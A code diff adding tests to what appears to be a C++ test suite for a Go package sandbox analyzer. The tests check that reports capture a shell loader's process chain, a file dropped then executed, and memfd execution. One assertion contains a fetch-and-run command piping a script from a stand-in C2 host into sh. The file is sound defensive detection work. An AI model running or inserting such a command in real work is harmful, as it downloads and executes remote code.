@@ -10,6 +10,8 @@
 
 #include <filesystem>
 #include <fstream>
+#include <functional>
+#include <set>
 
 #include "base/fs.h"
 #include "goproxy.h"
@@ -38,7 +40,8 @@ class Analyze : public ::testing::Test {
     if (::geteuid() != 0) return;
     root_ = fs::temp_directory_path() / ("gs-analyze-test-" + std::to_string(::getpid()));
     proxy_ = (root_ / "proxy").string();
-    for (const char* m : {"initgoroutine", "testonly", "cmdonly", "broken", "hangtest", "flood", "partial"}) {
+    for (const char* m : {"initgoroutine", "testonly", "cmdonly", "broken", "hangtest", "flood", "partial",
+                          "shloader", "dropexec", "memfdexec"}) {
       auto st = testsupport::add_to_proxy(proxy_, kFixtures + "/" + m, std::string("example.test/") + m, "v1.0.0");
       ASSERT_TRUE(st.ok()) << st.error().message();
     }
@@ -269,6 +272,76 @@ TEST_F(Analyze, InterruptedAnalysisStillReportsAndCleansUp) {
   auto report = nlohmann::json::parse(*read_file(out + "/report.json"));
   EXPECT_EQ(report["verdict"], "error");
   EXPECT_NE(report["error"].get<std::string>().find("interrupted"), std::string::npos);
+}
+
+const nlohmann::json* find_process(const nlohmann::json& report, const std::function<bool(const nlohmann::json&)>& pred) {
+  for (const auto& p : report["processes"])
+    if (pred(p)) return &p;
+  return nullptr;
+}
+
+const nlohmann::json* process_by_id(const nlohmann::json& report, const nlohmann::json& id) {
+  return find_process(report, [&](const nlohmann::json& p) { return p["id"] == id; });
+}
+
+TEST_F(Analyze, TracedShellLoaderShowsTheProcessChain) {
+  AnalyzeRun r = analyze("shloader", {"example.test/shloader@v1.0.0", "--window", "1", "--phases", "init"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_TRUE(r.report["trace"]["present"].get<bool>());
+  EXPECT_TRUE(r.report["trace"]["complete"].get<bool>());
+  const auto* sh = find_process(r.report, [](const nlohmann::json& p) {
+    return p["exe"] == "/bin/sh" && p["argv"].size() == 3 && p["argv"][1] == "-c" &&
+           p["argv"][2].get<std::string>().find("wget -q -O - http://c2.invalid/payload.sh | sh") != std::string::npos;
+  });
+  ASSERT_NE(sh, nullptr) << r.report["processes"].dump(1);
+  EXPECT_EQ((*sh)["phase"], "init");
+  const auto* parent = process_by_id(r.report, (*sh)["parent"]);
+  ASSERT_NE(parent, nullptr);
+  EXPECT_TRUE((*parent)["exe"].get<std::string>().ends_with("/initrunner")) << parent->dump();
+  // The pipeline's right-hand `sh` is a child of the `sh -c`.
+  const auto* child = find_process(r.report, [&](const nlohmann::json& p) {
+    return p["parent"] == (*sh)["id"] && p["exe"].get<std::string>().ends_with("sh");
+  });
+  EXPECT_NE(child, nullptr) << r.report["processes"].dump(1);
+}
+
+TEST_F(Analyze, WrittenThenExecutedFileIsRecognisable) {
+  AnalyzeRun r = analyze("dropexec", {"example.test/dropexec@v1.0.0", "--window", "1", "--phases", "init"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  std::set<std::string> ops;
+  for (const auto& f : r.report["files"])
+    if (f["path"] == "/tmp/gosandbox-dropped.sh")
+      for (const auto& op : f["ops"]) ops.insert(op);
+  for (const char* op : {"create", "write", "chmod", "exec", "delete"})
+    EXPECT_TRUE(ops.count(op)) << op << " missing; files: " << r.report["files"].dump(1);
+  EXPECT_NE(find_process(r.report, [](const nlohmann::json& p) { return p["exe"] == "/tmp/gosandbox-dropped.sh"; }),
+            nullptr);
+}
+
+TEST_F(Analyze, MemfdExecutionIsRecorded) {
+  AnalyzeRun r = analyze("memfdexec", {"example.test/memfdexec@v1.0.0", "--window", "1", "--phases", "init"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  const auto* p = find_process(r.report, [](const nlohmann::json& p) {
+    return p["exe"].get<std::string>().starts_with("/proc/self/fd/");
+  });
+  ASSERT_NE(p, nullptr) << r.report["processes"].dump(1);
+  // events.jsonl keeps the full exec record, with the memfd behind the fd.
+  std::ifstream events((root_ / "out-memfdexec" / "events.jsonl").string());
+  bool memfd_exec = false;
+  for (std::string line; std::getline(events, line);) {
+    auto j = nlohmann::json::parse(line);
+    if (j["type"] == "exec" && j.dump().find("memfd:payload") != std::string::npos) memfd_exec = true;
+  }
+  EXPECT_TRUE(memfd_exec);
+  EXPECT_EQ(r.report["artifacts"]["events"], "events.jsonl");
+}
+
+TEST_F(Analyze, NoTraceSaysTheTraceIsAbsent) {
+  AnalyzeRun r = analyze("notrace", {"example.test/initgoroutine@v1.0.0", "--window", "1", "--no-trace"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_FALSE(r.report["trace"]["present"].get<bool>());
+  EXPECT_TRUE(r.report["processes"].empty());
+  EXPECT_NE(r.out.find("trace:     absent"), std::string::npos) << r.out;
 }
 
 // Runs last (gtest keeps declaration order within a suite): nothing of any run remains.
